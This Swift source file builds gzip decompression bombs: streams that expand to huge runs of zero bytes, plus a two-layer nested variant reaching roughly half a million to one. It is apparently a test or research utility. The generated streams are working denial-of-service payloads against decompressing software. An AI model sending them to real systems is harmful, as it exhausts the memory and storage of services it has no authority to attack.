/// A small gzip stream that unpacks to any number of zero bytes: 1,032 of them for each byte sent, the most
/// that deflate can do.
///
/// One dynamic block (RFC 1951 section 3.2.7) with three codes: `0` is "258 more of the same", `10` the
/// literal zero, `11` the end. The distance code is `0` too, so the repeats are zero bits, and the long
/// middle of the stream is nothing but zero bytes, which need not be held to be sent.
public struct GzipBomb: Sendable {
  /// What comes before the zero bytes.
  public let prefix: [UInt8]
  /// The zero bytes in the middle of the stream.
  public let zeroCount: Int
  /// What comes after them: the end of the block, CRC-32 and length.
  public let suffix: [UInt8]

  /// The length of the stream.
  public var count: Int { prefix.count + zeroCount + suffix.count }

  /// The whole stream. A bomb of 1 GiB is 1 MiB long.
  public var bytes: [UInt8] { prefix + [UInt8](repeating: 0, count: zeroCount) + suffix }

  /// A stream that unpacks to this many zero bytes.
  public init(unpacked count: Int) {
    var writer = BitWriter()
    writer.raw(Gzip.header)
    let middle = writer.zeroBlock(count, isLast: true)
    // One of the zero bytes carries the bits of the unfinished byte before it; a whole zero byte more or
    // less behind it shifts nothing.
    writer.zeroBytes(min(middle, 1))
    prefix = writer.take()
    zeroCount = max(middle - 1, 0)
    writer.endZeroBlock(count)
    var crc = CRC32()
    crc.updateZeros(count)
    writer.raw(Gzip.trailer(crc: crc.value, count: count))
    suffix = writer.bytes
  }

  /// A bomb inside a bomb: two layers of gzip, about half a million to one.
  public static func double(unpacked count: Int) -> [UInt8] {
    let inner = GzipBomb(unpacked: count)
    var writer = BitWriter()
    writer.raw(Gzip.header)
    Gzip.writeStored(inner.prefix, isLast: false, to: &writer)
    let middle = writer.zeroBlock(inner.zeroCount, isLast: false)
    writer.zeroBytes(middle)
    writer.endZeroBlock(inner.zeroCount)
    Gzip.writeStored(inner.suffix, isLast: true, to: &writer)
    let bytes = inner.bytes
    writer.raw(Gzip.trailer(crc: CRC32.checksum(bytes), count: bytes.count))
    return writer.bytes
  }
}

extension BitWriter {
  /// Begins a block that unpacks to `count` zeros; answers how many zero bytes must follow.
  fileprivate mutating func zeroBlock(_ count: Int, isLast: Bool) -> Int {
    number(isLast ? 1 : 0, bits: 1)
    number(2, bits: 2)
    number(29, bits: 5)  // 286 literal and length codes
    number(0, bits: 5)  // one distance code
    number(14, bits: 4)
    // 18 code length codes follow, of the symbols 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] as [UInt32] {
      number(length, bits: 3)
    }
    // Their codes: 18 is `0`, 1 is `10`, 2 is `11`. Lengths: 2 for symbols 0 and 256, 1 for 285, 1 for the distance.
    code("11")
    zeroLengths(138)
    zeroLengths(117)
    code("11")
    zeroLengths(28)
    code("10")
    code("10")
    guard count > 0 else { return 0 }
    code("10")
    let repeats = (count - 1) / 258
    number(0, bits: UInt32(2 * (repeats % 4)))
    return repeats / 4
  }

  private mutating func zeroLengths(_ count: UInt32) {
    code("0")
    number(count - 11, bits: 7)
  }

  fileprivate mutating func endZeroBlock(_ count: Int) {
    if count > 0 {
      for _ in 0..<((count - 1) % 258) { code("10") }
    }
    code("11")
  }
}
